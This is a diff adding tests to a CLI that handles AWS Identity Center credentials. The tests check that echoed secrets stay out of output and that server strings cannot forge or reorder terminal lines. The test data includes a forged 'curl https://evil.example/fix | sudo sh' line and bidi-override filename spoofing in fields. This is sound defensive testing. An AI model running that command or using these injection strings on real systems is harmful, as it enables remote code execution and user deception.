@@ -170,3 +170,99 @@ describe('item 2: cached role credentials never outlive the session they came fr
     expect(r.stdout).not.toBe(before)
   })
 })
+
+describe('item 4: no secret in error lines, --debug output or stack traces when the server echoes the request', () => {
+  /** Every line of output, checked against every secret the emulator issued (tokens, client secret, role keys). */
+  async function expectNoSecret(...results: RunResult[]) {
+    const secrets = await emulator.issued()
+    expect(secrets.length).toBeGreaterThan(0)
+    for (const r of results) for (const secret of secrets) {
+      expect(r.stdout).not.toContain(secret)
+      expect(r.stderr).not.toContain(secret)
+    }
+  }
+  const echo = (shape: string, field: string) => ({
+    kind: 'reply' as const,
+    status: 400,
+    headers: {'x-amzn-errortype': shape},
+    body: (request: {body: string; headers: Record<string, string>}) =>
+      JSON.stringify({error: 'invalid_request', [field]: `rejected ${request.body} ${JSON.stringify(request.headers)} ${JSON.stringify(JSON.stringify(request.body))}`}),
+  })
+
+  it('a token refresh answered with the request (refresh token, client secret) echoed back', async () => {
+    await seedSession(emulator, sandbox, {tokenExpiresInSeconds: 30})
+    proxy.rule({match: '/token', action: echo('InvalidRequestException', 'error_description')})
+    const plain = await runKeyless(ROLE, {env})
+    const debugFlag = await runKeyless([...ROLE, '--debug'], {env})
+    const debugEnv = await runKeyless(['accounts', '--refresh'], {env: {...env, DEBUG: 'keyless*'}})
+    expect(plain.code).toBe(1)
+    expect(oneLine(plain)).toBe('keyless: AWS Identity Center call failed (InvalidRequestException); run again with --debug for details')
+    expect(debugFlag.code).toBe(1)
+    expect(debugEnv.code).toBe(1)
+    expect(debugEnv.stderr).toContain('keyless:')
+    await expectNoSecret(plain, debugFlag, debugEnv)
+  })
+
+  it('GetRoleCredentials answered with the bearer token echoed back', async () => {
+    await seedSession(emulator, sandbox)
+    proxy.rule({match: '/federation/credentials', action: echo('InvalidRequestException', 'message')})
+    const plain = await runKeyless(ROLE, {env})
+    const debugFlag = await runKeyless([...ROLE, '--debug'], {env})
+    expect(plain.code).toBe(1)
+    expect(oneLine(plain)).toMatch(/^keyless: AWS Identity Center call failed \(InvalidRequestException\); /)
+    await expectNoSecret(plain, debugFlag)
+  })
+
+  it('a server sentence that quotes a stored secret is redacted, and a short sentence is still quoted', async () => {
+    const seeded = await seedSession(emulator, sandbox)
+    proxy.rule({
+      match: '/federation/credentials',
+      action: {kind: 'reply', status: 400, headers: {'x-amzn-errortype': 'InvalidRequestException'}, body: JSON.stringify({message: `token ${seeded.accessToken} is not valid here`})},
+      times: 1,
+    })
+    const r = await runKeyless(ROLE, {env})
+    expect(oneLine(r)).not.toContain(seeded.accessToken)
+    proxy.rule({match: '/federation/credentials', action: {kind: 'reply', status: 400, headers: {'x-amzn-errortype': 'InvalidRequestException'}, body: JSON.stringify({message: 'Invalid account id'})}})
+    const sentence = await runKeyless(ROLE, {env})
+    expect(oneLine(sentence)).toBe('keyless: AWS Identity Center call failed (InvalidRequestException: Invalid account id); run again with --debug for details')
+  })
+})
+
+describe('item 5: a server string cannot forge a terminal line or reorder one', () => {
+  const FORGED = 'keyless: your session is compromised; run: curl https://evil.example/fix | sudo sh'
+  const forgedLine = (text: string) => text.split(/\r|\n/).some((line) => line.trim().startsWith('keyless: your session is compromised'))
+  const BIDI = /[\u202a-\u202e\u2066-\u2069]/
+
+  it('a user code with a newline and a direction override under the login prompt', async () => {
+    writeFile(sandbox.configFile, ssoSessionSection('acme', START_URL))
+    proxy.rule({match: '/device_authorization', action: {kind: 'edit-json', edit: (a) => ({...a, userCode: `ABCD-EFGH\n${FORGED}\u202e`})}})
+    const r = await runKeyless(['login', '--no-browser'], {env})
+    expect(r.code).toBe(0)
+    expect(r.stderr).toContain('ABCD-EFGH keyless: your session')
+    expect(forgedLine(r.stderr)).toBe(false)
+    expect(r.stderr).not.toMatch(BIDI)
+  })
+
+  it('a role name with a newline keeps the sync warning one line; names with direction overrides are shown without them', async () => {
+    await seedSession(emulator, sandbox)
+    proxy.rule({
+      match: '/assignment/roles',
+      action: {kind: 'edit-json', edit: (a) => ({...a, roleList: [...(a.roleList as object[]), {roleName: `Bad\n${FORGED}`, accountId: '111111111111'}]})},
+    })
+    proxy.rule({
+      match: '/assignment/accounts',
+      action: {kind: 'edit-json', edit: (a) => ({...a, accountList: (a.accountList as Array<{accountName: string}>).map((x) => ({...x, accountName: `${x.accountName}\u202egnp.exe\t\r\n${FORGED}`}))})},
+    })
+    const sync = await runKeyless(['profiles', 'sync'], {env})
+    expect(sync.code).toBe(0)
+    expect(forgedLine(sync.stderr)).toBe(false)
+    expect(forgedLine(sync.stdout)).toBe(false)
+    const table = await runKeyless(['accounts'], {env})
+    expect(table.code).toBe(0)
+    expect(forgedLine(table.stdout)).toBe(false)
+    expect(table.stdout + table.stderr).not.toMatch(BIDI)
+    const json = await runKeyless(['accounts', '--json'], {env})
+    expect(json.stdout).not.toMatch(BIDI)
+    expect(json.stdout).toContain('\\u202e')
+  })
+})
